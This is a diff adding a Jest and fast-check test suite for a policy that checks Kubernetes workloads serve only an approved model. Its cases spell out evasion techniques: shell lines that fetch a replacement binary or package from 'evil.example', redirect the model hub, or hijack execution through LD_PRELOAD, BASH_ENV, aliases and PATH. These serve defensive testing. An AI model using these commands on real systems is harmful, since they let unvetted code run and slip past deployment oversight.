@@ -1,0 +1,297 @@
+import { describe, expect, it } from "@jest/globals";
+import * as fc from "fast-check";
+import type { Workload } from "../../policies/workload.ts";
+import { aDeployment, type Json, read } from "../support/workloads.ts";
+
+const good = "acme/otter-7b";
+const evil = "mallory/stoat-7b";
+const gpu = { limits: { "nvidia.com/gpu": "1" } };
+
+/** Whether a policy that asks for evidence about the good model, and accepts no declaration, would be satisfied by what was read. */
+function passesAsGood({ models, tooLarge }: Workload): boolean {
+  const isGood = models.every(
+    ({ name, unreadable, openEnvironment, adapters, hiddenAdapters }) =>
+      name === good &&
+      unreadable === undefined &&
+      openEnvironment === undefined &&
+      adapters.length === 0 &&
+      hiddenAdapters === undefined,
+  );
+  return tooLarge === undefined && models.length > 0 && isGood;
+}
+
+const readPod = (podSpec: Json): Workload => read(aDeployment({ podSpec }));
+const server = (change: Json): Json => ({
+  name: "server",
+  image: "registry.example/vllm:1",
+  resources: gpu,
+  ...change,
+});
+const serveGood = ["vllm", "serve", good];
+const shell = (script: string): Json => server({ command: ["bash", "-c", script] });
+
+describe("a workload that runs another model never passes for the good one", () => {
+  const onVolume = (mountPath: string): Json => ({ volumeMounts: [{ name: "v", mountPath }] });
+  const volumes = [{ name: "v", persistentVolumeClaim: { claimName: "v" } }];
+  const variable = (name: string, value: string): Json => ({ env: [{ name, value }] });
+
+  it("the plain server passes, so that every row below can fail", () => {
+    expect(passesAsGood(readPod({ containers: [server({ command: serveGood })] }))).toBe(true);
+  });
+
+  it.each<[string, Json, Json?]>([
+    ["a command in a variable", shell(`CMD="vllm serve ${evil}"; $CMD`)],
+    ["eval", shell(`eval "vllm serve ${evil}"`)],
+    ["eval beside the good one", shell(`eval "$(cat /x)"; vllm serve ${good}`)],
+    ["xargs", shell(`echo serve ${evil} | xargs vllm`)],
+    ["env -S", server({ command: ["env", "-S", `vllm serve ${evil}`] })],
+    ["a sourced script", shell(`. /scripts/start.sh; vllm serve ${good}`)],
+    ["a function of the server's name", shell(`vllm() { command vllm serve ${evil}; }; vllm serve ${good}`)],
+    ["an alias", shell(`shopt -s expand_aliases\nalias vllm='vllm serve ${evil} #'\nvllm serve ${good}`)],
+    ["a path that the script puts first", shell(`PATH=/tmp/bin:$PATH; vllm serve ${good}`)],
+    ["a program that the script writes", shell(`printf x > /usr/local/bin/vllm; vllm serve ${good}`)],
+    ["a program that the script fetches", shell(`curl -o /usr/local/bin/vllm http://evil.example; vllm serve ${good}`)],
+    ["a program that the script copies", shell(`cp /scratch/x /usr/bin/vllm && vllm serve ${good}`)],
+    ["a package from elsewhere", shell(`pip install git+https://evil.example/vllm && vllm serve ${good}`)],
+    ["a package from another index", shell(`pip install -i http://evil.example vllm && vllm serve ${good}`)],
+    ["another index by variable", shell(`PIP_INDEX_URL=http://evil.example pip install vllm && vllm serve ${good}`)],
+    ["code before the server", shell(`python3 -c 'import x' && vllm serve ${good}`)],
+    ["another server behind the good one", shell(`vllm serve ${good} & ollama serve`)],
+    ["a background server that is not known", shell(`/opt/serve ${evil} & vllm serve ${good}`)],
+    ["a server that is not known, told by its flag", server({ command: ["/opt/serve", "--model", good] })],
+    ["a sourced environment", shell(`set -a; . /config/env; vllm serve ${good}`)],
+    ["the program mounted over", server({ command: serveGood, ...onVolume("/usr/local/bin/vllm") }), { volumes }],
+    ["the interpreter mounted over", server({ command: serveGood, ...onVolume("/usr/bin") }), { volumes }],
+    [
+      "the packages mounted over",
+      server({ command: serveGood, ...onVolume("/usr/local/lib/python3.12/dist-packages/vllm") }),
+      { volumes },
+    ],
+    ["a program from a volume", server({ command: ["/v/vllm", "serve", good], ...onVolume("/v") }), { volumes }],
+    [
+      "a working directory on a volume",
+      server({
+        command: ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", good],
+        workingDir: "/v",
+        ...onVolume("/v"),
+      }),
+      { volumes },
+    ],
+    [
+      "a folder of the model's name",
+      server({ command: serveGood, ...onVolume(`/vllm-workspace/${good}`) }),
+      { volumes },
+    ],
+    ["PATH", server({ command: serveGood, ...variable("PATH", "/v:/usr/bin"), ...onVolume("/v") }), { volumes }],
+    [
+      "LD_PRELOAD",
+      server({ command: serveGood, ...variable("LD_PRELOAD", "/v/x.so"), ...onVolume("/v") }),
+      { volumes },
+    ],
+    ["PYTHONPATH", server({ command: serveGood, ...variable("PYTHONPATH", "/tmp/x") })],
+    ["BASH_ENV", { ...shell(`vllm serve ${good}`), ...variable("BASH_ENV", "/v/x") }],
+    ["an exported function", { ...shell(`vllm serve ${good}`), ...variable("BASH_FUNC_vllm%%", "() { evil; }") }],
+    ["PYTHONPATH from elsewhere", server({ command: serveGood, envFrom: [{ configMapRef: { name: "c" } }] })],
+    ["another hub", server({ command: serveGood, ...variable("HF_ENDPOINT", "http://evil.example") })],
+    ["another hub, exported", shell(`export HF_ENDPOINT=http://evil.example; vllm serve ${good}`)],
+    ["another hub, in front", shell(`HF_ENDPOINT=http://evil.example vllm serve ${good}`)],
+    [
+      "an offline cache",
+      server({ command: serveGood, ...variable("HF_HUB_OFFLINE", "1"), ...onVolume("/root/.cache") }),
+      { volumes },
+    ],
+    ["adapters at run time", server({ command: serveGood, ...variable("VLLM_ALLOW_RUNTIME_LORA_UPDATING", "1") })],
+    ["adapters by modality", server({ command: [...serveGood, "--default-mm-loras", `{"audio":"${evil}"}`] })],
+    [
+      "overrides of the configuration",
+      server({ command: [...serveGood, "--hf-overrides", `{"architectures":["X"]}`] }),
+    ],
+    ["a draft model", server({ command: [...serveGood, "--speculative-config", `{"model":"${evil}"}`] })],
+    ["a draft model, dotted", server({ command: [...serveGood, "--speculative-config.model", evil] })],
+    ["settings in a file", server({ command: [...serveGood, "--config", "/v/c.yaml"] })],
+    ["a second positional", server({ command: [...serveGood, evil] })],
+    ["a positional behind --", server({ command: ["vllm", "serve", "--model", good, "--", evil] })],
+    ["a positional behind a switch", server({ command: ["vllm", "serve", "--model", good, "--enforce-eager", evil] })],
+    [
+      "a positional behind a list",
+      server({ command: ["vllm", "serve", "--served-model-name=a", evil, "--model", good] }),
+    ],
+    ["an abbreviation", server({ command: [...serveGood, "--mode", evil] })],
+    ["a flag that is not known", server({ command: [...serveGood, "--no-such-flag", evil] })],
+    [
+      "a hook",
+      server({ command: serveGood, lifecycle: { postStart: { exec: { command: ["sh", "-c", `/x ${evil}`] } } } }),
+    ],
+    ["a probe", server({ command: serveGood, livenessProbe: { exec: { command: ["/v/probe"] } } })],
+    [
+      "Ollama that was told to pull it",
+      server({
+        image: "ollama/ollama",
+        args: ["serve"],
+        lifecycle: { postStart: { exec: { command: ["ollama", "pull", good] } } },
+      }),
+    ],
+    ["Triton", server({ command: ["tritonserver", "--model-repository=/models"] })],
+    ["a script on standard input", server({ command: ["bash", "-s"], stdin: true })],
+    ["a script file", server({ command: ["bash", "/start.sh", "vllm", "serve", good] })],
+    ["a nested shell", shell(`sh -c 'sh -c "vllm serve ${evil}"'`)],
+    [
+      "a shell in arguments of a wrapper",
+      server({ command: ["nohup", "timeout", "9", "sh", "-c", `vllm serve ${evil}`] }),
+    ],
+    ["other weights from a download", shell(`hf download ${evil} --local-dir /tmp/m && vllm serve /tmp/m`)],
+    [
+      "two downloads to one place",
+      shell(`hf download ${good} --local-dir /tmp/m; hf download ${evil} --local-dir /tmp/m; vllm serve /tmp/m`),
+    ],
+    [
+      "a download from another hub",
+      shell(`HF_ENDPOINT=http://evil.example hf download ${good} --local-dir /tmp/m; vllm serve /tmp/m`),
+    ],
+    [
+      "a download inside of the model",
+      shell(`hf download ${good} --local-dir /tmp/m; hf download ${evil} --local-dir /tmp/m/x; vllm serve /tmp/m`),
+    ],
+  ])("%s", (_what, container, pod = {}) => {
+    expect(passesAsGood(readPod({ containers: [container], ...pod }))).toBe(false);
+  });
+
+  it.each<[string, Json]>([
+    [
+      "an opaque side-car on the GPU",
+      { containers: [server({ command: serveGood }), { name: "x", image: "x", resources: gpu }] },
+    ],
+    [
+      "an opaque initializer that writes to the server's volume",
+      {
+        initContainers: [
+          { name: "storage-initializer", image: "x", command: ["/x"], volumeMounts: [{ name: "v", mountPath: "/m" }] },
+        ],
+        containers: [
+          server({ command: serveGood, volumeMounts: [{ name: "v", mountPath: "/root/.cache/huggingface" }] }),
+        ],
+        volumes: [{ name: "v", emptyDir: {} }],
+      },
+    ],
+    [
+      "an opaque container in the same processes",
+      { shareProcessNamespace: true, containers: [server({ command: serveGood }), { name: "x", image: "x" }] },
+    ],
+    [
+      "an opaque container with the node's devices",
+      {
+        containers: [server({ command: serveGood }), { name: "x", image: "x", securityContext: { privileged: true } }],
+      },
+    ],
+    [
+      "a second server in an init container",
+      {
+        initContainers: [server({ name: "x", command: ["vllm", "serve", evil] })],
+        containers: [server({ command: serveGood })],
+      },
+    ],
+  ])("%s", (_what, podSpec) => {
+    expect(passesAsGood(readPod(podSpec))).toBe(false);
+  });
+});
+
+describe("adding something never makes a workload that runs another model pass for the good one", () => {
+  // An image that starts by its own entry point is not here: what its arguments and variables say of it is a matter of trust.
+  const bases: readonly Json[] = [
+    server({ command: ["vllm", "serve", evil] }),
+    server({ args: ["--model", evil] }),
+    server({ args: [evil, "--max-model-len", "4096"] }),
+    server({ command: ["python3", "-m", "sglang.launch_server", "--model-path", evil] }),
+    server({ command: ["bash", "-c", `vllm serve ${evil}`] }),
+    server({ command: ["/opt/serve"] }),
+  ];
+  const words = fc.constantFrom(
+    "--model",
+    good,
+    `--model=${good}`,
+    "--",
+    "--served-model-name",
+    "serve",
+    "vllm",
+    "-c",
+    "--enforce-eager",
+    "bash",
+    "echo",
+    "#",
+    ";",
+    `vllm serve ${good}`,
+    "--model-id",
+    "--config",
+    "",
+  );
+  const variables = fc
+    .constantFrom(
+      "MODEL_ID",
+      "HF_MODEL_ID",
+      "NIM_MODEL_NAME",
+      "VLLM_ADDITIONAL_ARGS",
+      "PATH",
+      "HF_ENDPOINT",
+      "LLAMA_ARG_HF_REPO",
+      "STORAGE_URI",
+    )
+    .map((name) => ({ name, value: good }));
+  const containers = fc.constantFrom<Json>(
+    { name: "a", image: "x", command: serveGood },
+    { name: "storage-initializer", image: "x", args: [`hf://${good}`, "/mnt/models"] },
+    { name: "b", image: "x", args: ["--model", good] },
+    { name: "c", image: "busybox", command: ["sleep", "1"] },
+  );
+  const mounts = fc.constantFrom("/models", "/mnt/models", "//models", "/", "/usr/bin");
+  const addition = fc.record({
+    word: fc.option(fc.tuple(fc.nat(8), words), { nil: undefined }),
+    variable: fc.option(variables, { nil: undefined }),
+    sidecar: fc.option(containers, { nil: undefined }),
+    init: fc.option(containers, { nil: undefined }),
+    mount: fc.option(mounts, { nil: undefined }),
+    hook: fc.option(fc.constantFrom(serveGood, ["sh", "-c", `vllm serve ${good}`], ["true"]), { nil: undefined }),
+  });
+
+  it("holds for words, variables, containers, mounts and hooks", () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...bases), fc.array(addition, { maxLength: 3 }), (base, additions) => {
+        const podSpec = additions.reduce<Json>(add, { containers: [base] });
+        expect(passesAsGood(readPod(podSpec))).toBe(false);
+      }),
+      { numRuns: 2_000, seed: 14 },
+    );
+  });
+
+  type Addition = typeof addition extends fc.Arbitrary<infer A> ? A : never;
+
+  function add(podSpec: Json, { word, variable, sidecar, init, mount, hook }: Addition): Json {
+    const [first = {}, ...others] = podSpec["containers"] as Json[];
+    const changed = { ...first };
+    const key = changed["command"] === undefined ? "args" : "command";
+    // In front of the program another one would run, and in front of a script another script: those really change what runs.
+    const from =
+      changed["command"] === undefined
+        ? 0
+        : Array.isArray(changed["command"]) && changed["command"][0] === "bash"
+          ? 3
+          : 1;
+    if (word !== undefined)
+      changed[key] = insert((changed[key] as string[] | undefined) ?? [], from + word[0], word[1]);
+    if (variable !== undefined) changed["env"] = [...((changed["env"] as Json[] | undefined) ?? []), variable];
+    if (mount !== undefined) changed["volumeMounts"] = [{ name: "v", mountPath: mount }];
+    if (hook !== undefined) changed["lifecycle"] = { postStart: { exec: { command: hook } } };
+    return {
+      ...podSpec,
+      containers: [changed, ...others, ...(sidecar === undefined ? [] : [sidecar])],
+      initContainers: [
+        ...((podSpec["initContainers"] as Json[] | undefined) ?? []),
+        ...(init === undefined ? [] : [init]),
+      ],
+      volumes: [{ name: "v", image: { reference: `${good}:1` } }],
+    };
+  }
+
+  function insert(list: readonly string[], at: number, word: string): string[] {
+    return [...list.slice(0, at), word, ...list.slice(at)];
+  }
+});
